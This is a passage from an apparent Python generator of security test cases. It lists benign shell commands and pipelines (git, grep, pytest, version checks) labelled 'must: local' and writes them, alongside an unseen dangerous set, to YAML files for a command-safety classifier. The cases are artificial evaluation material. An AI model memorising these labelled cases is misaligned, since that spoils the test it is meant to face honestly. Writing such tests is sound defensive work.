    "gofmt -l .", "cargo fmt --check", "golangci-lint run",
    "python3 --version", "python --version", "node --version", "node -v", "npm --version", "go version", "cargo --version",
    "rustc --version", "gcc --version", "java -version", "git --version", "make --version", "docker --version",
    "pip list", "pip show requests", "pip freeze", "npm ls --depth=0", "go list ./...", "go env GOPATH", "cargo tree",
    "printenv PATH", "printenv HOME", "env LC_ALL=C sort names.txt", "timeout 60 pytest -q", "nice -n 10 pytest",
    "time pytest -q", "man ls", "man 5 crontab", "cd src", "cd ..", "cd src && ls", "pushd src && ls && popd",
    "set -euo pipefail", "export CI=1", "FOO=bar", "NAME=world; echo hello $NAME", "LC_ALL=C sort file.txt",
    "less README.md", "more CHANGELOG.md", "ps aux | head", "free -h", "hostname",
)

BENIGN_PIPELINES: tuple[str, ...] = (
    "ls -la && git status", "git status && git diff --stat", "git log --oneline | head -20", "git log --format='%an' | sort | uniq -c | sort -rn",
    "git diff --name-only | grep '\\.py$'", "git ls-files | wc -l", "git ls-files '*.py' | xargs wc -l", "git branch -a | grep feature",
    "cat requirements.txt | sort", "cat data.csv | cut -d, -f2 | sort | uniq -c", "grep -rn TODO src | wc -l", "grep -r import src | sort | uniq",
    "rg -l 'TODO' | xargs grep -c TODO", "find . -name '*.py' | xargs wc -l", "find . -name '*.py' | xargs grep -l 'import os'",
    "find . -type f | wc -l", "find src -name '*.ts' | head -20", "ls | grep test", "ls -1 | wc -l", "ls -la | sort -k5 -n",
    "du -sh * | sort -h | tail", "ps aux | grep python", "echo $PATH | tr ':' '\\n'", "cat package.json | jq '.scripts'",
    "jq -r '.[] | .name' data.json | sort", "awk '{print $1}' access.log | sort | uniq -c | sort -rn | head",
    "sed -n '1,10p' README.md | cat -n", "head -100 big.log | grep ERROR", "tail -200 app.log | grep -i exception",
    "cat README.md | wc -w", "diff <(sort a.txt) <(sort b.txt)", "comm -3 <(sort a) <(sort b)", "wc -l $(git ls-files '*.py')",
    "echo \"Branch: $(git rev-parse --abbrev-ref HEAD)\"", "cat $(find . -name 'setup.cfg')", "grep -n main $(git ls-files)",
    "pwd; ls", "cd src && grep -rn TODO .", "cd tests && pytest -q", "ruff check . && mypy src", "flake8 && pytest -q",
    "black --check . && isort --check-only . && flake8", "pytest -q 2>&1 | tail -20", "pytest -q > test-output.txt 2>&1",
    "go test ./... 2>&1 | head -50", "cargo test 2>&1 | tail", "npm test 2>&1 | tee test.log", "git diff > changes.patch",
    "git log --oneline > history.txt", "ls -la > /dev/null 2>&1", "grep -q foo file.txt && echo found", "test -f Makefile && cat Makefile",
    "[ -d .git ] && git status", "which python3 || which python", "command -v jq >/dev/null && jq . data.json",
    "for f in src/*.py; do wc -l \"$f\"; done", "for f in $(ls tests); do echo $f; done", "if [ -f setup.py ]; then cat setup.py; fi",
    "while read -r line; do echo \"$line\"; done < names.txt", "git status --porcelain | awk '{print $2}'",
    "git log --since=yesterday --oneline | wc -l", "find . -name '*.log' -mtime +7 | head", "sort -u names.txt | head -5",
    "cat notes.txt | sed 's/old/new/g' | head", "ls src | sed 's/\\.py$//'", "cut -f1 -d: users.txt | sort | head",
    "grep -v '^#' config.ini | grep -v '^$'", "git show HEAD --stat | head -20", "git blame src/app.py | grep alice",
    "date && uptime", "uname -a; python3 --version", "echo start && pytest -q && echo done", "set -e; ls; git status",
    "cat <<'EOF' > notes.txt\nTODO: refactor the parser\nEOF", "cat > notes.md <<'EOF'\n# Notes\n$(not run)\nEOF",
    "echo 'hello' > greeting.txt", "echo line >> notes.txt", "git diff | head -100 | tee review.txt",
    "ls -la | tee listing.txt", "rg -c TODO | sort -t: -k2 -n", "fd -e md | xargs wc -w", "tree -L 1 | head",
    "git rev-parse HEAD | cut -c1-7", "git tag -l | sort -V | tail -1", "printf '%s\\n' *.py | wc -l",
    "xargs -n1 echo < list.txt", "seq 1 5 | xargs -I{} echo item {}", "echo {a,b,c}.txt", "echo *.md", "ls *.py",
    "cat src/*.py | wc -l", "head -n 5 tests/*.py", "git diff HEAD~3..HEAD -- src/ | grep '^+' | wc -l",
    "sha256sum dist/* | sort", "stat -c '%n %s' *.whl", "bash -c 'ls -la'", "sh -c 'git status && git diff'",
    "nohup true", "timeout 10 git status 2>/dev/null || true",
)


def benign_cases() -> list[dict[str, str]]:
    """Every benign case (deduplicated), each with ``must: local``."""
    out: list[dict[str, str]] = []
    seen: set[str] = set()
    for kind, items in (("single", BENIGN_SINGLE), ("pipeline", BENIGN_PIPELINES)):
        for c in items:
            if c not in seen:
                seen.add(c)
                out.append({"cmd": c, "kind": kind, "must": "local"})
    return out


def _dump(path: Path, header: str, data: list[dict[str, str]]) -> None:
    text = yaml.safe_dump(data, sort_keys=False, allow_unicode=True, width=10_000, default_flow_style=False)
    path.write_text(header + text, encoding="utf-8")


def main() -> None:
    """Write dangerous.yaml and benign.yaml next to this script and print their sizes."""
    d = dangerous_cases()
    b = benign_cases()
    _dump(HERE / "dangerous.yaml", "# GENERATED by tests/security/make_cases.py: edit the generator, then rerun it.\n", d)
    _dump(HERE / "benign.yaml", "# GENERATED by tests/security/make_cases.py: edit the generator, then rerun it.\n", b)
    classes: dict[str, int] = {}
    for c in d:
        classes[c["class"]] = classes.get(c["class"], 0) + 1
    print(f"dangerous: {len(d)} cases {classes}")
    print(f"benign: {len(b)} cases")


if __name__ == "__main__":
    main()
